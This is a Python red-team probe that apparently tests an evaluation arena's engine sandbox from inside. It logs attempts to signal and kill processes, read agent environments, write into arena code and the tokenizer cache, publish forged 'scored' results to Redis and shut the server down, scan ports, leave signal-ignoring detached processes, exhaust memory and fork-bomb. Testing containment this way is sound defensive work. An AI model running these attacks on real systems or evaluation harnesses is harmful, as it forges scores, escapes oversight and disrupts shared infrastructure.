#!/usr/bin/env python3
"""The red-team probe: every way out of the engine sandbox that the protocol closes, tried from inside an engine.

One line per attempt on standard output (the engine's log, which the pod agent keeps for the operators):

    ARENA-PROBE {"start": ..., "at": ..., "kind": "attempt", "attack": ..., "property": ..., "target": ..., "achieved": ..., "detail": ...}

`achieved` is true when the attack got what it wanted; `property` names the entry of lib/pods/sandbox/properties.ts
it tests; `at` is the seconds since the probe began. `kind: "note"` lines say what the probe set up (detached processes, files) for a later start to look for.
Standard library only. It never signals anything but pid 1 for real: every other process is tried with signal 0,
the permission check kill(2) makes for any signal, so a probe run outside a sandbox breaks nothing of the host.
"""

import errno
import json
import os
import selectors
import signal
import socket
import subprocess
import sys
import time

STARTED = time.monotonic()
START = f"{os.getpid()}-{int(time.time() * 1000)}"
MARK = "arena-probe-leftover"
LEFTOVER_FILES = [f"/tmp/{MARK}", f"/var/tmp/{MARK}", f"/dev/shm/{MARK}", f"/tmp/.{MARK}-dir/file"]
AGENT_MARKERS = ["pods/agent/main.ts", "pod-agent", "pod-init.sh"]
HEARTBEAT = (
    "import os, signal, sys, time\n"
    "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\n"
    "while True:\n"
    "    try: print(f'ARENA-PROBE-HEARTBEAT {time.time():.3f} {sys.argv[2]} pid={os.getpid()}', flush=True)\n"
    "    except Exception: pass\n"
    "    time.sleep(float(sys.argv[3]))\n"
)


def emit(line):
    line["start"] = START
    # the engine's health timeout counts these seconds too: a log shows which step took them
    line["at"] = round(time.monotonic() - STARTED, 3)
    print("ARENA-PROBE " + json.dumps(line, sort_keys=True), flush=True)


def attempt(attack, prop, target, achieved, detail=""):
    emit({"kind": "attempt", "attack": attack, "property": prop, "target": target, "achieved": achieved, "detail": detail})


def note(attack, target, detail=""):
    emit({"kind": "note", "attack": attack, "target": target, "detail": detail})


def why(error):
    return errno.errorcode.get(getattr(error, "errno", None) or 0, type(error).__name__)


def load_config(path):
    try:
        with open(path) as f:
            config = json.load(f)
    except OSError:
        config = {}
    paths = list(config.get("paths", []))
    # The simulated engine's launcher lives in the arena's checkout: its data and state folders sit beside it.
    launcher = os.environ.get("ARENA_SIM_ENGINE", "")
    if launcher:
        repo = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(launcher))))
        state = os.path.join(repo, ".arena")
        data = os.path.join(state, "data")
        paths += [
            {"how": "list", "path": state, "property": "no-arena-state"},
            {"how": "list", "path": data, "property": "no-arena-state"},
            {"how": "list", "path": os.path.join(data, "evaluations"), "property": "no-other-inputs"},
            {"how": "list", "path": os.path.join(data, "pools"), "property": "no-pool"},
            {"how": "read", "path": os.path.join(data, "pools", "test.jsonl"), "property": "no-pool"},
        ]
        # what the agent and the stock engine run and trust: a cheater's way into the judge's own counts
        cache = os.path.join(repo, ".build", "tokenizer-cache")
        try:
            cached = [os.path.join(cache, name) for name in sorted(os.listdir(cache))]
        except OSError:
            cached = []
        for target in [
            cache,
            *cached,
            os.path.join(repo, ".build", "repo-pod-agent"),
            os.path.join(repo, ".build", "sim-engine"),
            os.path.dirname(launcher),
        ]:
            paths.append({"how": "write", "path": target, "property": "arena-code-unwritable"})
    config["paths"] = paths
    return config


def processes():
    """Every process this one can see: pid, uid, command line."""
    out = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        pid = int(name)
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
            with open(f"/proc/{pid}/status") as f:
                uid = next(int(l.split()[1]) for l in f if l.startswith("Uid:"))
        except (OSError, StopIteration):
            continue
        out.append((pid, uid, cmdline))
    return out


def cgroup_value(controller, names):
    """A limit of this process's own cgroup (v1 or v2), or None."""
    try:
        with open("/proc/self/cgroup") as f:
            lines = f.read().splitlines()
    except OSError:
        return None
    for line in lines:
        hid, controllers, path = line.split(":", 2)
        if controller in controllers.split(","):
            bases = [f"/sys/fs/cgroup/{controller}{path}"]
        elif hid == "0":
            bases = [f"/sys/fs/cgroup{path}", f"/sys/fs/cgroup/unified{path}"]
        else:
            continue
        for base in bases:
            for name in names:
                try:
                    with open(os.path.join(base, name)) as f:
                        raw = f.read().strip()
                except OSError:
                    continue
                if raw.isdigit() and int(raw) < 1 << 50:
                    return int(raw)
    return None


def earlier_leftovers():
    mine = os.getpid()
    found = [(pid, cmd) for pid, uid, cmd in processes() if MARK in cmd and pid != mine]
    attempt(
        "earlier-process",
        "leftovers-cleared",
        "processes an earlier start left",
        bool(found),
        "; ".join(f"{pid}: {cmd[:80]}" for pid, cmd in found) or "none found",
    )
    for path in LEFTOVER_FILES:
        exists = os.path.lexists(path)
        attempt("earlier-file", "leftovers-cleared", path, exists, "still there" if exists else "gone")


def see_and_signal(config):
    me = os.getuid()
    mine = os.getpid()
    seen = processes()
    note("processes", "visible", f"{len(seen)} processes: " + "; ".join(f"{p}:{u}:{c[:40]}" for p, u, c in seen[:30]))
    for marker in config.get("hostProcessMarkers", []):
        hits = [(p, c) for p, u, c in seen if marker in c and p != mine and "probe.py" not in c]
        attempt("see-process", "host-processes-hidden", marker, bool(hits), "; ".join(f"{p}: {c[:80]}" for p, c in hits))
    signalled = 0
    for pid, uid, cmd in seen:
        if pid == mine:
            continue
        agentish = any(m in cmd for m in AGENT_MARKERS)
        if uid == me and not agentish:
            continue  # its own processes
        signalled += 1
        try:
            os.kill(pid, 0)
            attempt("signal", "processes-unsignalable", f"pid {pid} (uid {uid}: {cmd[:60]})", True, "permitted")
        except OSError as e:
            attempt("signal", "processes-unsignalable", f"pid {pid} (uid {uid}: {cmd[:60]})", False, why(e))
        if agentish:
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    got = f.read()
                attempt("read", "no-arena-state", f"/proc/{pid}/environ", True, f"{len(got)} bytes")
            except OSError as e:
                attempt("read", "no-arena-state", f"/proc/{pid}/environ", False, why(e))
    if signalled == 0:
        # a sandbox of its own uid alone (a container's PID namespace): no other process to signal is in sight
        attempt("signal", "processes-unsignalable", "every process of another uid", False, "none visible")
    try:
        # a real SIGKILL, except as root (outside any sandbox), where it proves nothing and could do harm
        before = init_start()
        os.kill(1, signal.SIGKILL if me != 0 else 0)
        time.sleep(0.2)
        # the kernel drops, for a PID namespace's init, every signal it has no handler for, and kill(2) still says yes
        if me != 0 and before is not None and init_start() == before:
            attempt("kill-init", "processes-unsignalable", "pid 1", False, "permitted, but pid 1 lives on: dropped")
        else:
            attempt("kill-init", "processes-unsignalable", "pid 1", True, "permitted")
    except OSError as e:
        attempt("kill-init", "processes-unsignalable", "pid 1", False, why(e))


def init_start():
    """Pid 1's start time (its /proc stat's 22nd field), which a new pid 1 would not share; None when unreadable."""
    try:
        with open("/proc/1/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[19]
    except (OSError, IndexError):
        return None


def write(path, prop):
    """Creates a file in a folder, or opens a file for appending, writing nothing: being let is the breach."""
    try:
        if os.path.isdir(path):
            made = os.path.join(path, f"probe-write-{os.getpid()}")
            os.close(os.open(made, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
            os.unlink(made)
            attempt("write", prop, path, True, "created a file in it")
        else:
            with open(path, "ab"):
                pass
            attempt("write", prop, path, True, "opened it for writing")
    except OSError as e:
        attempt("write", prop, path, False, why(e))


def files(config):
    for entry in config.get("paths", []):
        path, prop = entry["path"], entry["property"]
        if entry.get("how") == "write":
            write(path, prop)
            continue
        try:
            if entry.get("how") == "list" or os.path.isdir(path):
                names = os.listdir(path)
                attempt("list", prop, path, True, f"{len(names)} entries: {', '.join(sorted(names)[:8])}")
            else:
                with open(path, "rb") as f:
                    got = f.read(65536)
                attempt("read", prop, path, True, f"{len(got)} bytes read")
        except OSError as e:
            attempt("list" if entry.get("how") == "list" else "read", prop, path, False, why(e))


def redis_command(sock, *args):
    sock.sendall(f"*{len(args)}\r\n".encode() + b"".join(f"${len(a.encode())}\r\n{a}\r\n".encode() for a in args))
    sock.settimeout(1.0)
    try:
        return sock.recv(65536)
    except OSError:
        return b""


def attack_redis(sock, target):
    pong = redis_command(sock, "PING")
    if not pong.startswith(b"+PONG"):
        return False, f"PING answered {pong[:40]!r}"
    listing = redis_command(sock, "PUBSUB", "CHANNELS", "*").split(b"\r\n")
    channels = [listing[i + 1].decode(errors="replace") for i in range(1, len(listing) - 1) if listing[i].startswith(b"$")]
    forged = json.dumps({"type": "status", "data": {"status": "scored", "specscore": 99, "forged_by": "arena-probe"}})
    for channel in channels + ["arena:evaluation:probe:events"]:
        redis_command(sock, "PUBLISH", channel, forged)
        redis_command(sock, "PUBLISH", channel, "not json: arena-probe")
    redis_command(sock, "SHUTDOWN", "NOSAVE")
    return True, f"PING answered; PUBLISH sent to {len(channels) + 1} channels; SHUTDOWN NOSAVE sent"


def connect(address, port, timeout=0.5):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    sock.connect((address, port))
    return sock


def self_connected(sock):
    """A connect to a port nothing listens on can meet itself (TCP simultaneous open) when the kernel picks that very
    port as its source: a connection to no one, which must not count as a listener found."""
    try:
        return sock.getsockname()[:2] == sock.getpeername()[:2]
    except OSError:
        return False


def scan(address, ports, timeout=0.3):
    """Ports that accept a connection, tried 512 at a time with non-blocking connects."""
    found = []
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    selector = selectors.DefaultSelector()
    for at in range(0, len(ports), 512):
        pending = {}
        for port in ports[at : at + 512]:
            sock = socket.socket(family, socket.SOCK_STREAM)
            sock.setblocking(False)
            code = sock.connect_ex((address, port))
            if code == 0:
                if not self_connected(sock):
                    found.append(port)
                sock.close()
            elif code in (errno.EINPROGRESS, errno.EAGAIN):
                selector.register(sock, selectors.EVENT_WRITE, port)
                pending[sock] = port
            else:
                sock.close()
        deadline = time.time() + timeout
        while pending and time.time() < deadline:
            for key, _ in selector.select(max(0.0, deadline - time.time())):
                sock = key.fileobj
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0 and not self_connected(sock):
                    found.append(key.data)
                selector.unregister(sock)
                sock.close()
                del pending[sock]
        for sock in pending:
            selector.unregister(sock)
            sock.close()
    return found


def network(config):
    prop = "network-loopback-only"
    redis_ports = set(config.get("redisPorts", [6379, 6380]))
    for address in config.get("addresses", ["127.0.0.1"]):
        for port in config.get("ports", []):
            target = f"[{address}]:{port}" if ":" in address else f"{address}:{port}"
            try:
                sock = connect(address, port)
                if self_connected(sock):
                    sock.close()
                    raise ConnectionRefusedError(errno.ECONNREFUSED, "met itself: nothing listens")
            except OSError as e:
                attempt("connect", prop, target, False, why(e))
                if port in redis_ports:
                    attempt("redis", prop, target, False, f"no connection: {why(e)}")
                continue
            attempt("connect", prop, target, True, "connected")
            try:
                achieved, detail = attack_redis(sock, target)
                if achieved or port in redis_ports:
                    attempt("redis", prop, target, achieved, detail)
            finally:
                sock.close()
    if config.get("scanLoopback", True):
        for address in ("127.0.0.1",):
            found = scan(address, list(range(1, 65536)))
            attempt("port-scan", prop, f"{address}:1-65535", bool(found), f"open: {found[:30]}")
    sockets = list(config.get("unixSockets", []))
    for folder in ("/tmp", "/run", "/var/run", "/dev/shm"):
        try:
            sockets += [os.path.join(folder, n) for n in os.listdir(folder) if n.endswith(".sock") or ".s.PGSQL" in n]
        except OSError:
            pass
    for path in dict.fromkeys(sockets):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(0.5)
        try:
            sock.connect(path)
        except OSError as e:
            attempt("unix-socket", prop, path, False, why(e))
            sock.close()
            continue
        try:
            achieved, detail = attack_redis(sock, path)
            attempt("unix-socket", prop, path, True, "connected; " + detail)
        finally:
            sock.close()


def leave_behind(config):
    beat = str(config.get("heartbeatSeconds", 1))
    for path in LEFTOVER_FILES:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(START)
            note("file", path, "written")
        except OSError as e:
            note("file", path, f"not written: {why(e)}")
    code = [sys.executable, "-c", HEARTBEAT, MARK]
    started = []
    try:
        started.append(("setsid", subprocess.Popen(code + ["setsid", beat], start_new_session=True).pid))
    except OSError as e:
        note("detach", "setsid", why(e))
    try:
        started.append(("nohup", subprocess.Popen(["nohup"] + code + ["nohup", beat]).pid))
    except OSError as e:
        note("detach", "nohup", why(e))
    child = os.fork()
    if child == 0:
        try:
            if os.fork() == 0:
                os.setsid()
                os.execv(sys.executable, code + ["double-fork", beat])
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    started.append(("double-fork", "grandchild"))
    for how, pid in started:
        note("detach", how, f"pid {pid}")


def memory(config):
    limit = cgroup_value("memory", ["memory.max", "memory.limit_in_bytes"])
    target_mib = (limit >> 20) + 256 if limit else int(config.get("memoryMb") or 2048)
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read_end)
        held, got = [], 0
        try:
            while got < target_mib:
                held.append(bytearray(b"\x01") * (64 << 20))
                got += 64
                os.write(write_end, f"{got}\n".encode())
        except MemoryError:
            os._exit(3)
        os._exit(0)
    os.close(write_end)
    progress = b""
    while True:
        chunk = os.read(read_end, 4096)
        if not chunk:
            break
        progress += chunk
    os.close(read_end)
    _, status = os.waitpid(child, 0)
    reached = int(progress.split()[-1]) if progress.split() else 0
    limit_text = f"limit {limit >> 20} MiB" if limit else "no limit found"
    if os.WIFSIGNALED(status):
        detail = f"killed by signal {os.WTERMSIG(status)} after {reached} MiB ({limit_text})"
    else:
        detail = f"exited {os.WEXITSTATUS(status)} after {reached} MiB ({limit_text})"
    attempt("memory", "memory-limit", f"{target_mib} MiB", reached >= target_mib, detail)


def fork_bomb(config):
    limit = cgroup_value("pids", ["pids.max"])
    cap = limit + 64 if limit else int(config.get("forkCap") or 1024)
    children, stopped = [], "none"
    try:
        while len(children) < cap:
            pid = os.fork()
            if pid == 0:
                time.sleep(120)
                os._exit(0)
            children.append(pid)
    except OSError as e:
        stopped = why(e)
    for pid in children:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for pid in children:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
    limit_text = f"limit {limit}" if limit else "no limit found"
    attempt("fork", "process-limit", f"{cap} processes", len(children) >= cap, f"{len(children)} forked, stopped by {stopped} ({limit_text})")


def main():
    config = load_config(sys.argv[1] if len(sys.argv) > 1 else "probe-targets.json")
    groups = ",".join(str(g) for g in os.getgroups())
    note("identity", "self", f"uid={os.getuid()} gid={os.getgid()} groups={groups} pid={os.getpid()}")
    for step in (earlier_leftovers, lambda: see_and_signal(config), lambda: files(config), lambda: network(config)):
        try:
            step()
        except Exception as e:  # one broken step must not hide the others
            note("error", getattr(step, "__name__", "step"), repr(e))
    for step in (leave_behind, memory, fork_bomb):
        try:
            step(config)
        except Exception as e:
            note("error", step.__name__, repr(e))
    note("done", "probe", "serving as the simulated stock engine")


if __name__ == "__main__":
    main()
